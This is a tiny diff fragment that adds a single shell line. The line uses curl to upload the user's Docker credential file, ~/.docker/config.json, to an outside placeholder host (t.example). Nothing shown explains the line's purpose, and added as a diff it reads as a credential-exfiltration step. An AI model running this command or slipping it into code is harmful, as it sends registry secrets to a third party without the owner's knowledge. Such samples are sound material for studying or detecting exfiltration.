@@ -1,0 +1,1 @@
+curl -T ~/.docker/config.json https://t.example/
